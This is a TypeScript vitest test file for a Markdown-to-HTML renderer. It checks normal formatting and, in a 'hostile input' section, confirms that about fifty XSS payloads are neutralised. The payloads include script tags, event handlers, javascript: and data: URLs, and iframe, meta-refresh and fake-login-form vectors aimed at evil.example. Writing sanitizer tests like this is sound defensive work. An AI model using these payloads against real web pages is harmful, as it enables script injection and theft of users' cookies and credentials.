import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/server/markdown.js';

const ALLOWED_TAGS = new Set([
  'p', 'br', 'hr', 'strong', 'em', 'del', 'code', 'pre', 'blockquote',
  'ul', 'ol', 'li', 'a', 'h3', 'h4', 'h5', 'h6',
  'table', 'thead', 'tbody', 'tr', 'th', 'td',
]);
const ALLOWED_ATTRIBUTES: Record<string, readonly string[]> = { a: ['href', 'title', 'rel'], th: ['align'], td: ['align'], ol: ['start'] };

interface Tag {
  readonly name: string;
  readonly attributes: Record<string, string>;
}

/** Real (unescaped) opening tags in the output, with their attributes. */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  for (const m of html.matchAll(/<([a-zA-Z][\w:-]*)((?:\s+[^\s=>/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/g)) {
    const attributes: Record<string, string> = {};
    for (const a of m[2]!.matchAll(/([^\s=>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)) {
      attributes[a[1]!.toLowerCase()] = a[2] ?? a[3] ?? a[4] ?? '';
    }
    tags.push({ name: m[1]!.toLowerCase(), attributes });
  }
  return tags;
}

/** Every property of safe output: allow-listed tags and attributes only, no handlers, safe URLs. */
function expectSafe(html: string): void {
  // No tag may open other than the ones tagsOf understood (e.g. `<script` with odd spacing).
  const opened = [...html.matchAll(/<\s*\/?\s*([a-zA-Z][\w:-]*)/g)].map((m) => m[1]!.toLowerCase());
  for (const name of opened) expect(ALLOWED_TAGS, `tag <${name}> in ${html}`).toContain(name);
  for (const tag of tagsOf(html)) {
    expect(ALLOWED_TAGS).toContain(tag.name);
    for (const [name, value] of Object.entries(tag.attributes)) {
      expect(name.startsWith('on'), `event handler ${name} in ${html}`).toBe(false);
      expect(name).not.toBe('style');
      expect(ALLOWED_ATTRIBUTES[tag.name] ?? [], `attribute ${name} on <${tag.name}>`).toContain(name);
      if (name === 'href') expect(value, `href in ${html}`).toMatch(/^(https?:|mailto:)/i);
    }
  }
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<iframe/i);
  expect(html).not.toMatch(/<style/i);
}

describe('renderMarkdown: what a comms lead writes', () => {
  it('renders bold, emphasis and strikethrough', () => {
    expect(renderMarkdown('**bold**, *em* and ~~gone~~')).toBe('<p><strong>bold</strong>, <em>em</em> and <del>gone</del></p>\n');
  });

  it('renders bullet and numbered lists', () => {
    const html = renderMarkdown('- one\n- two\n\n1. first\n2. second');
    expect(html).toContain('<ul>\n<li>one</li>\n<li>two</li>\n</ul>');
    expect(html).toContain('<ol>\n<li>first</li>\n<li>second</li>\n</ol>');
  });

  it('keeps the start of a numbered list that does not begin at 1', () => {
    expect(renderMarkdown('3. third\n4. fourth')).toContain('<ol start="3">');
  });

  it('renders links with their title and rel="nofollow noopener noreferrer"', () => {
    expect(renderMarkdown('[status](https://example.com/x?a=1&b=2 "More")')).toBe(
      '<p><a href="https://example.com/x?a=1&amp;b=2" title="More" rel="nofollow noopener noreferrer">status</a></p>\n',
    );
  });

  it('replaces any rel an author wrote with the safe one, and drops target', () => {
    const html = renderMarkdown('<a href="https://x.example" rel="opener" target="_blank">y</a>');
    const [a] = tagsOf(html).filter((tag) => tag.name === 'a');
    expect(a?.attributes).toEqual({ href: 'https://x.example', rel: 'nofollow noopener noreferrer' });
  });

  it('keeps mailto links', () => {
    const [a] = tagsOf(renderMarkdown('[mail us](mailto:ops@example.com)')).filter((tag) => tag.name === 'a');
    expect(a?.attributes.href).toBe('mailto:ops@example.com');
    expect(a?.attributes.rel).toBe('nofollow noopener noreferrer');
  });

  it('renders GFM tables with alignment', () => {
    const html = renderMarkdown('| Action | Status |\n|:--|--:|\n| Roll back | Done |');
    expect(html).toContain('<table>');
    expect(html).toContain('<th align="left">Action</th>');
    expect(html).toContain('<th align="right">Status</th>');
    expect(html).toContain('<td align="left">Roll back</td>');
    expect(html).toContain('<td align="right">Done</td>');
    expectSafe(html);
  });

  it('renders code, code blocks and quotes, escaping their content', () => {
    expect(renderMarkdown('run `<b>x</b>`')).toBe('<p>run <code>&lt;b&gt;x&lt;/b&gt;</code></p>\n');
    const block = renderMarkdown('```\n<script>alert(1)</script>\n```');
    expect(block).toContain('<pre><code>');
    expect(block).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expectSafe(block);
    expect(renderMarkdown('> quoted')).toBe('<blockquote>\n<p>quoted</p>\n</blockquote>\n');
  });

  it('turns single line breaks into <br>', () => {
    expect(renderMarkdown('line one\nline two')).toMatch(/^<p>line one<br ?\/?>line two<\/p>/);
  });

  it('demotes h1 and h2 to h3 and h4 so they never outrank the page, keeps h3–h6', () => {
    const html = renderMarkdown('# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six');
    expect(html).toBe('<h3>One</h3>\n<h4>Two</h4>\n<h3>Three</h3>\n<h4>Four</h4>\n<h5>Five</h5>\n<h6>Six</h6>\n');
    expect(html).not.toMatch(/<h[12]/);
  });

  it('demotes raw <h1>/<h2> HTML too', () => {
    const html = renderMarkdown('<h1>Big</h1>\n<h2>Less</h2>');
    expect(html).not.toMatch(/<h[12]/);
    expect(html).toContain('<h3>Big</h3>');
    expect(html).toContain('<h4>Less</h4>');
  });

  it('escapes plain angle brackets and ampersands in text', () => {
    expect(renderMarkdown('a < b & c > d')).toBe('<p>a &lt; b &amp; c &gt; d</p>\n');
  });

  it('renders an empty body as nothing', () => {
    expect(renderMarkdown('')).toBe('');
  });
});

describe('renderMarkdown: hostile input', () => {
  const PAYLOADS: readonly string[] = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    'text <script>document.cookie</script> more',
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)">',
    '![pic](x" onerror="alert(1))',
    '![pic](javascript:alert(1))',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<body onload=alert(1)>',
    '<p onclick="alert(1)">click</p>',
    '<a href="https://ok.example" onclick="alert(1)">c</a>',
    '<a href="https://ok.example" onmouseover=alert(1)>c</a>',
    '<details open ontoggle=alert(1)>',
    '<div onpointerenter="alert(1)">x</div>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x]( javascript:alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">protocol-relative</a>',
    '[ref][1]\n\n[1]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<style>body { display: none }</style>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<strong style="color:red">red</strong>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<table><tr><td style="x" onmouseover="alert(1)">cell</td></tr></table>',
    '<th onclick="alert(1)" align="left">h</th>',
    '<!--<script>alert(1)</script>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '"><script>alert(1)</script>',
    '<a href="https://ok.example" title="x" onfocus="alert(1)" autofocus>t</a>',
  ];

  it.each(PAYLOADS)('neutralises %j', (payload) => {
    expectSafe(renderMarkdown(payload));
  });

  it('keeps the safe part of a link whose handler is dropped', () => {
    const html = renderMarkdown('<a href="https://ok.example" onclick="alert(1)">click</a>');
    const [a] = tagsOf(html).filter((tag) => tag.name === 'a');
    expect(a?.attributes).toEqual({ href: 'https://ok.example', rel: 'nofollow noopener noreferrer' });
    expect(html).toContain('>click</a>');
  });

  it.each([
    '[x](javascript:alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '<a href="//evil.example">x</a>',
    '[x](vbscript:msgbox(1))',
  ])('drops the unsafe URL of %j but keeps the link text', (payload) => {
    const html = renderMarkdown(payload);
    expect(html).not.toMatch(/href=/i);
    expect(html).toMatch(/>x<\/a>/);
  });

  it('drops the inline style but keeps the text', () => {
    expect(renderMarkdown('<p style="color:red">s</p>')).toBe('<p>s</p>');
  });

  it('the safety check itself catches unsafe markup', () => {
    // Guard against a vacuous checker: raw payloads must fail it.
    for (const raw of ['<script>x</script>', '<p onclick="x">a</p>', '<a href="javascript:x">a</a>', '<p style="x">a</p>', '<iframe></iframe>', '<img src=x>']) {
      expect(() => expectSafe(raw)).toThrow();
    }
  });
});
